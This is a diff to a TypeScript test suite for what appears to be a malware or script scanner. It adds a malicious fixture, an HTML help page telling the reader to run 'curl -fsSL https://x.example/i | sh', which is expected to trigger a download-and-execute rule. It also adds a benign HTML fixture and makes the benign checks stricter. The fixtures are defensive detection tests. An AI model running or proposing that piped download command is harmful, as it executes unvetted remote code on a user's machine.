@@ -729,6 +729,14 @@ const malicious: Array<[string, Files, RegExp]> = [
     },
     /^bash-container-escape$/,
   ],
+  [
+    'html-report-pre',
+    {
+      'templates/help.html':
+        '<html><body><p>Setup:</p><pre><code>curl -fsSL https://x.example/i | sh</code></pre></body></html>\n',
+    },
+    /^bash-download-exec$/,
+  ],
 ];
 
 /** a download piped to a shell from a vendor-looking host: the technique, never a silent pass */
@@ -956,6 +964,13 @@ const benign: Array<[string, Files]> = [
         '#!/bin/sh\naws s3 cp dist/ s3://my-site --recursive\ngh gist create notes.md\nrclone copy ./build remote:site\nfind . -name "*.md" -exec wc -l {} \\;\necho hello | tr a-z A-Z\nPY=$(command -v python3)\n$PY -m fmt .\n',
     },
   ],
+  [
+    'html-doc-with-entities',
+    {
+      'docs/api.html':
+        '<html><body>\n<p>To wit, `fn(&amp;str)`, which is short for `for&lt;\'any&gt; fn(&amp;\'any str)`.</p>\n<pre class="rust"><code>\n    let absent: Option&lt;i32&gt; = None;\n    let x = a &amp;&amp; b;\n</code></pre>\n</body></html>\n',
+    },
+  ],
 ];
 
 const scan = (files: Files) =>
@@ -982,11 +997,11 @@ describe('novel technique variants (held-out probe)', () => {
     });
   }
   for (const [name, files] of benign) {
-    it(`does not fail benign look-alike ${name}`, () => {
+    it(`passes benign look-alike ${name}`, () => {
       const r = scan(files);
-      assert.notEqual(
+      assert.equal(
         r.verdict,
-        'fail',
+        'pass',
         `${r.summary}: ${r.findings.map((f) => f.ruleId).join(', ')}`,
       );
     });
